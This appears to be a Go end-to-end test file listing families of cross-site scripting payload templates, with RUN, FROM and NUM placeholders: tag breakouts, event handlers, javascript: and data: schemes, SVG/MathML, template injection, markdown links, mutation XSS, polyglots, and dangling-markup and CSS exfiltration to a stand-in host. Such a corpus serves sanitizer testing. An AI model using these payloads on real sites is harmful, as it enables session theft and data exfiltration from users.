package e2e

// families are the kinds of payloads; RUN stands for the call, FROM for an address of the host, NUM for the number alone.
var families = []family{
	{"tags", times(`
%s
">%s
'>%s
</title>%s
</textarea>%s
</script>%s
</style>%s
--!>%s
</select>%s`, `
<script>RUN</script>
<img x35 src=x onerror=RUN>
<svg x35 onload=RUN>
<iframe x35 srcdoc="<script>parent.RUN</script>">
<x35 onfocus=RUN tabindex=1 autofocus>
<script src=FROM></script>`)},
	{"handlers", times(`
<x35 tabindex=1 %s=RUN>x</x35>`, `
onabort
onafterprint
onanimationend
onanimationstart
onauxclick
onbeforecopy
onbeforeinput
onbeforematch
onbeforeprint
onbeforetoggle
onblur
oncanplay
onchange
onclick
onclose
oncontextmenu
oncopy
oncut
ondblclick
ondrag
ondragenter
ondrop
onerror
onfocus
onfocusin
onformdata
ongotpointercapture
onhashchange
oninput
oninvalid
onkeydown
onkeyup
onload
onloadstart
onmessage
onmousedown
onmouseenter
onmouseleave
onmousemove
onmouseover
onmouseup
onmousewheel
onpageshow
onpaste
onpointerdown
onpointerenter
onpointerover
onpointerrawupdate
onpopstate
onreset
onresize
onscroll
onscrollend
onsearch
onsecuritypolicyviolation
onselect
onselectstart
onslotchange
onsubmit
ontoggle
ontouchstart
ontransitionend
onunhandledrejection
onunload
onwebkitanimationstart
onwheel`)},
	{"elements", lines(`
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'
<img src onerror=RUN //
<IMG SRC=x ONERROR=RUN>
<img/src=x/onerror=RUN>
<img """><script>RUN</script>">
<image src=x onerror=RUN>
<img srcset=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN src=x></picture>
<video><source onerror=RUN></video>
<video src=x onerror=RUN>
<audio src=x onerror=RUN>
<audio autoplay onloadstart=RUN src=x>
<object data=x onerror=RUN>
<object data="javascript:parent.RUN"></object>
<embed src="javascript:RUN">
<iframe onload=RUN></iframe>
<iframe src="javascript:parent.RUN"></iframe>
<frameset onload=RUN>
<body onload=RUN>
<body onpageshow=RUN>
<html onmouseover=RUN>
<details open ontoggle=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>x</button>
<keygen autofocus onfocus=RUN>
<marquee onstart=RUN>x</marquee>
<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>
<link rel=stylesheet href=FROM onerror=RUN>
<link rel=preload as=image href=FROM>
<script>window.onload=function(){RUN}</script>
<script type=module>RUN</script>
<script async src=FROM></script>
<script>import('FROM')</script>
<script>fetch('FROM')</script>
<script>alert(RUN)</script>
<script>confirm('NUM')</script>
<script>setTimeout('RUN',0)</script>
<script>new Function('RUN')()</script>
<script>location='javascript:RUN'</script>
<script>document.write('<img src=x onerror=RUN>')</script>
<applet code=x onerror=RUN>
<isindex action=javascript:RUN type=image>
<template><script>RUN</script></template>
<div popover id=x35 onbeforetoggle=RUN>x</div><button popovertarget=x35>x</button>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=FROM">
<base href=FROM>
<form action=javascript:RUN><input type=submit></form>
<form><button formaction=javascript:RUN>x</button></form>
<a href=javascript:RUN>x</a>
<area href=javascript:RUN>
<track default src=FROM onerror=RUN>
<portal src=FROM>
<fencedframe src=FROM>
<slot onslotchange=RUN></slot>`)},
	{"attributes", times(`
" %s x35="
' %s x35='
x %s x35=`, `
onmouseover="RUN"
onmouseover='RUN'
onfocus=RUN autofocus
onclick=RUN
onerror=RUN src=x
style=animation-name:x onanimationstart=RUN
accesskey=x onclick=RUN
formaction=javascript:RUN
srcdoc=<script>RUN</script>
href=javascript:RUN
type=image src=x onerror=RUN
popovertarget=x onbeforetoggle=RUN`)},
	{"svg and mathml", lines(`
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href=FROM></script></svg>
<svg><script>&#120;35(NUM)</script></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><a href="javascript:RUN"><rect width=9 height=9 /></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=1>
<svg><animate xlink:href=#x attributeName=href values=javascript:RUN /><a id=x><text y=20>x</text></a></svg>
<svg><animateTransform onbegin=RUN attributeName=transform>
<svg><animateMotion onbegin=RUN path=M0,0>
<svg><image href=x onerror=RUN>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:RUN'/></svg>#x">
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><script>RUN</script></desc></svg>
<svg><discard onbegin=RUN>
<svg><handler type=text/javascript>RUN</handler></svg>
<svg><feImage href=FROM></feImage></svg>
<svg><filter><feImage xlink:href=FROM /></filter></svg>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math href="javascript:RUN">x</math>
<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>
<math><mi><script>RUN</script></mi></math>
<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>
<math><semantics><annotation-xml><script>RUN</script></annotation-xml></semantics></math>
<?xml-stylesheet href="javascript:RUN"?><svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>`)},
	{"schemes", lines(`
javascript:RUN
JaVaScRiPt:RUN
 javascript:RUN//
javascript://%0aRUN
javascript://www.bautzen.example/%0d%0aRUN
javascript:/*https://www.bautzen.example/*/RUN
javascript&colon;RUN
java&Tab;script&colon;RUN
&#106;avascript:RUN
&#x6A&#x61vascript:RUN
jav&#x0A;ascript:RUN
java%0ascript:RUN
\u006aavascript:RUN
vbscript:RUN
livescript:RUN
data:text/html,<script>RUN</script>
data:text/html;charset=utf-8,%3Cscript%3ERUN%3C/script%3E
data:text/javascript,RUN
data:application/xhtml+xml,<x xmlns="http://www.w3.org/1999/xhtml" onload="RUN"/>
view-source:javascript:RUN
blob:RUN
filesystem:RUN
feed:javascript:RUN
jar:FROM!/x
mhtml:FROM!x
//javascript:RUN
https:FROM
https://www.bautzen.example/"onmouseover="RUN
https://www.bautzen.example/'onmouseover='RUN
https://www.bautzen.example/<script>RUN</script>
https://www.bautzen.example/?q="><img/src=x/onerror=RUN>
https://www.bautzen.example/#<svg/onload=RUN>
https://www.bautzen.example@x35.example/NUM
mailto:a@b.example"onmouseover="RUN
mailto:a@b.example?body=<script>RUN</script>
tel:1"onmouseover="RUN`)},
	{"codes", codes(`
<script>RUN</script>
<img src=x onerror=RUN>`)},
	{"templates", lines(`
{{x35 NUM}}
{{RUN}}
{{.CSRF}}NUM
{{template "once" .}}NUM
{{define "content"}}<script>RUN</script>{{end}}
{{printf "%s" "<script>RUN</script>"}}
{{"<script>RUN</script>" | html}}
{{call .RUN}}
{{constructor.constructor('RUN')()}}
{{$on.constructor('RUN')()}}
{{_c.constructor('RUN')()}}
{{'a'.constructor.prototype.charAt=[].join;$eval('RUN')}}
{{{<script>RUN</script>}}}
{{&RUN}}
[[RUN]]
{%=RUN%}
{% raw %}<script>RUN</script>{% endraw %}
<%= RUN %>
<%- '<script>RUN</script>' %>
<% RUN %>
<?php echo '<script>RUN</script>' ?>
<?= RUN ?>
#{RUN}
${RUN}
*{RUN}
@{RUN}
@(RUN)
$(RUN)
#set($x="<script>RUN</script>")$x
<x35 v-on:mounted="RUN">
<x35 v-html="'<img src=x onerror=RUN>'">
<x35 x-init="RUN" x-data>
<x35 ng-app ng-csp><x35 ng-focus="RUN" tabindex=1 autofocus>
<x35 ng-init="constructor.constructor('RUN')()">
<x35 hx-on::load="RUN">
<x35 data-bind="value: RUN">
<x35 is="script">RUN</x35>
` + "`${RUN}`")},
	{"comments", lines(`
<!--<script>RUN</script>-->
--><script>RUN</script>
--!><script>RUN</script>
<!--><script>RUN</script>
<!---><script>RUN</script>-->
<!-- --!><img src=x onerror=RUN> -->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<![if !IE]><script>RUN</script><![endif]>
<![CDATA[<script>RUN</script>]]>
]]><script>RUN</script>
<!DOCTYPE x35 [<!ENTITY x35 "RUN">]>&x35;
<?x35 RUN?>
<?xml version="1.0"?><script>RUN</script>
</x35><script>RUN</script>
<!x35 <script>RUN</script>
<%x35 <script>RUN</script>
*/RUN/*
*/</style><script>RUN</script>/*
<noembed><img title="</noembed><script>RUN</script>">
<xmp><p title="</xmp><script>RUN</script>">`)},
	{"nesting", lines(`
<scr<script>ipt>RUN</scr</script>ipt>
<scr<!---->ipt>RUN</script>
<<script>RUN//<</script>
<script<script>>RUN</script>
<script <script>RUN</script>
<script/x35>RUN</script>
<script/src=FROM>
<script x35>RUN</script x35>
<script>RUN</script
<script>RUN
</script/x35><script>RUN</script>
<sc<x>ript>RUN</sc</x>ript>
<img src=x <img src=y onerror=RUN>
<img src="x><img src=y onerror=RUN//">
<a <!-- --> href="javascript:RUN">x</a>
<a href="x"><a href="javascript:RUN">x</a></a>
<b <script>RUN</script>0
<x35/onclick=RUN>x
<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script&amp;gt;top.RUN&amp;lt;/script&amp;gt;'&gt;"></iframe>
<div><table><tr><script>RUN</script></tr></table></div>
<table background=FROM><td background=FROM>
<p><svg><p><style><img title="</style><script>RUN</script>">
ononclick=RUNclick=x
<ſcript>RUN</ſcript>
<ıframe src=javascript:RUN>
<linK rel=stylesheet href=FROM>
‹script›RUN‹/script›
﹤script﹥RUN﹤/script﹥
＂onmouseover=＂RUN
ʺonmouseover=ʺRUN
<script>ｘ35(NUM)</script>
<sCrIpT>RUN</ScRiPt>
<IfRaMe SrC=jAvAsCrIpT:RUN>
¼script¾RUN¼/script¾
<ⓢcript>RUN</ⓢcript>
À¼script>RUN`)},
	{"markdown", lines(`
[x](javascript:RUN)
[x](JaVaScRiPt:RUN)
[x]( javascript:RUN)
[x](<javascript:RUN>)
[x](javascript:RUN "x")
[x](https://www.bautzen.example" onmouseover="RUN)
[x](https://www.bautzen.example 'x" onmouseover="RUN')
[x](data:text/html,<script>RUN</script>)
[x](data:text/html;base64,PHNjcmlwdD5STjwvc2NyaXB0Pg==NUM)
[x](vbscript:RUN)
[x](//x35.example/NUM)
[x](&#106;avascript:RUN)
[x](javascript&#58;RUN)
[x](\javascript:RUN)
[<img src=x onerror=RUN>](https://www.bautzen.example)
[x]: javascript:RUN
[x][1] [1]: javascript:RUN
![x](x" onerror="RUN)
![x](//x35.example/NUM.png)
![x](javascript:RUN)
![x"onerror="RUN](x)
<javascript:RUN>
<https://www.bautzen.example/"onmouseover="RUN>
**<script>RUN</script>**
` + "`<script>RUN</script>`" + `
` + "```<script>RUN</script>```" + `
# <img src=x onerror=RUN>
> <script>RUN</script>
- <svg onload=RUN>
| <script>RUN</script> | x |
*[x35]: <script>RUN</script>
[^1]: <script>RUN</script>
<details><summary>x</summary>[x](javascript:RUN)</details>
www.bautzen.example/"onmouseover="RUN"`)},
	{"json and scripts", lines(`
"};RUN;{"
'};RUN;{'
';RUN//
";RUN//
\';RUN//
\";RUN//
'-RUN-'
"-RUN-"
` + "`-RUN-`" + `
');RUN;('
");RUN;("
]);RUN;([
}]);RUN//
</script><script>RUN//
</ScRiPt ><script>RUN</script>
<\/script><script>RUN</script>
<!--<script>RUN
"</script><img src=x onerror=RUN>
\u003c/script\u003e\u003cscript\u003eRUN
{"__proto__":{"x35":"RUN"}}
constructor[prototype][x35]=RUN
{"toString":"RUN"}
//%0aRUN
x;RUN;
+RUN+
,RUN,
RUN
=RUN
onerror=x35;throw NUM
{onerror=x35}throw NUM
x35.call(null,NUM)
[NUM].map(x35)
x35` + "`NUM`" + `
window['x35'](NUM)`)},
	{"mutations", lines(`
<noscript><p title="</noscript><img src=x onerror=RUN>">
<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;img src=1 onerror=RUN&gt;">
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<svg><p><style><!--</style><img src=x onerror=RUN>--></style>
<math></br><style><a title="</style><img src onerror=RUN>">
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<p id="</p><img src=x onerror=RUN>">
<style><style/><img src=x onerror=RUN>
<textarea><img title="</textarea><img src=x onerror=RUN>">
<title><a title="</title><img src=x onerror=RUN>">
<iframe><img title="</iframe><img src=x onerror=RUN>">
<noframes><img title="</noframes><img src=x onerror=RUN>">
<select><style></select><img src=x onerror=RUN></style>
<select><noembed></select><script>RUN</script>
<option><style></option></select><img src=x onerror=RUN></style>
<a title="&lt;img src=x onerror=RUN&gt;">x</a>
<img alt="` + "``" + `onmouseover=RUN x">
<d><svg><style></svg><a title="</style><img src=x onerror=RUN>">
<svg><foreignobject><p><table><svg><style><a title="</style><img src onerror=RUN>">
<table><caption><svg><title><table><caption></caption></table></title><style><a title="</style><img src onerror=RUN>">
<template><svg><style></template><img src=x onerror=RUN>
<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>
<b><a><b></b><img src=x onerror=RUN></a></b>
<nobr><nobr><img src=x onerror=RUN>
<plaintext><img src=x onerror=RUN>`)},
	{"dangling", lines(`
<img src='//x35.example/NUM?
<img src="//x35.example/NUM?
"><img src='//x35.example/NUM?
<iframe src='//x35.example/NUM?
<iframe name='NUM x35
<meta http-equiv=refresh content='0;url=//x35.example/NUM?
<link rel=stylesheet href='//x35.example/NUM?
<link rel=prefetch href=FROM>
<link rel=dns-prefetch href=FROM>
<link rel=preconnect href=FROM>
<link rel=icon href=FROM>
<link rel=manifest href=FROM>
<link rel=modulepreload href=FROM>
<form action=FROM><button>x35</button><textarea>
"></form><form action=FROM>
<button form=x35 formaction=FROM>x</button>
<input type=image src=FROM>
<input type=hidden name=csrf value='NUM x35
<textarea name=x35 form=NUM>
<select><option>x35 NUM
<base target='NUM x35
<base href='//x35.example/NUM/
<a href=FROM><font size=9>x
<style>@import'//x35.example/NUM?
<table background='//x35.example/NUM?
<object data='//x35.example/NUM?
<video poster='//x35.example/NUM?
<svg><image href='//x35.example/NUM?
<a ping=FROM href=#>x</a>
<script>/*x35 NUM
<!-- x35 NUM
<plaintext>x35 NUM
<noscript>x35 NUM
<title>x35 NUM
<xmp>x35 NUM`)},
	{"style", lines(`
<style>@import '//x35.example/NUM'</style>
<style>*{background:url(//x35.example/NUM)}</style>
<style>@font-face{font-family:x;src:url(//x35.example/NUM)}*{font-family:x}</style>
<style>input[value^=a]{background:url(//x35.example/NUM)}</style>
<style>@keyframes x{}</style><x35 style="animation-name:x" onanimationstart=RUN>
<style>:target{color:red}</style><x35 id=x style="transition:color 1s" ontransitionend=RUN>
<div style="background:url(//x35.example/NUM)">x35</div>
<div style="background-image:url('javascript:RUN')">x</div>
<div style="width:expression(RUN)">x</div>
<div style="-moz-binding:url(//x35.example/NUM#x)">x</div>
<div style="behavior:url(//x35.example/NUM)">x</div>
<div style="position:fixed;inset:0;z-index:9">x35 NUM</div>
<div class="fw-serious kern-btn" x35=NUM>x</div>
" style="background:url(//x35.example/NUM)" x="
' style='background:url(//x35.example/NUM)' x='
</style><style>@import '//x35.example/NUM'</style>
}*{background:url(//x35.example/NUM)}
;background:url(//x35.example/NUM);
expression(RUN)
<link rel=stylesheet href="data:text/css,*{background:url(//x35.example/NUM)}">
<svg style="background:url(//x35.example/NUM)">`)},
	{"names", lines(`
<a id=x35 href=FROM>x</a>
<form id=x35 name=x35><input name=attributes value=NUM></form>
<form name=csrf><input name=value value="x35 NUM"></form>
<img name=getElementById x35=NUM>
<img name=cookie x35=NUM>
<img name=body x35=NUM>
<a id=fehler x35=NUM>x</a>
<input name=csrf value="x35 NUM">
<input id=csrf name=key value="x35 NUM">
<object name=currentScript x35=NUM></object>
<iframe name=x35 src=FROM></iframe>
<form action=/abmelden method=post x35=NUM><button autofocus>x</button></form>
<div data-focus x35=NUM tabindex=-1>x</div>
<form data-autosave=FROM data-page=x><textarea x35=NUM></textarea></form>
<button data-copy="x35 NUM">x</button>`)},
	{"polyglots", lines(`
jaVasCript:/*-/*` + "`" + `/*\` + "`" + `/*'/*"/**/(/* */onerror=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=RUN//>\x3e
">><marquee><img src=x onerror=RUN></marquee>" ></plaintext\></|\><plaintext/onmouseover=RUN>
'">><script>RUN</script>
" onclick=RUN//<button ' onclick=RUN//> */ RUN//
--></script></title></style></textarea></noscript></template></select></svg><img src=x onerror=RUN>
';RUN//";RUN//` + "`" + `;RUN//--></script>">'><script>RUN</script>
javascript:"/*'/*` + "`" + `/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=RUN//>`)},
	{"unseen", unseen},
}
